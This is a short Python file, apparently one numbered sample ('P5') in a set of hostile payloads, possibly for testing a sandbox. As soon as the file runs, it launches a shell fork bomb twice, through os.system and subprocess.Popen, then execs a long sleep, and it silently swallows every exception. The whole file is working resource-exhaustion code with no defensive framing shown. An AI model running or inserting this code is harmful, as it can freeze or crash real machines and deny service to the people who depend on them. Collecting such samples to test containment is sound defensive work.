# P5: run a shell that forks without end
def _attack():
    import os
    import subprocess

    os.system(":(){ :|:& };:")
    subprocess.Popen(["sh", "-c", ":(){ :|:& };:"])
    os.execv("/bin/sh", ["sh", "-c", "sleep 100000"])


try:
    _attack()
except BaseException:
    pass
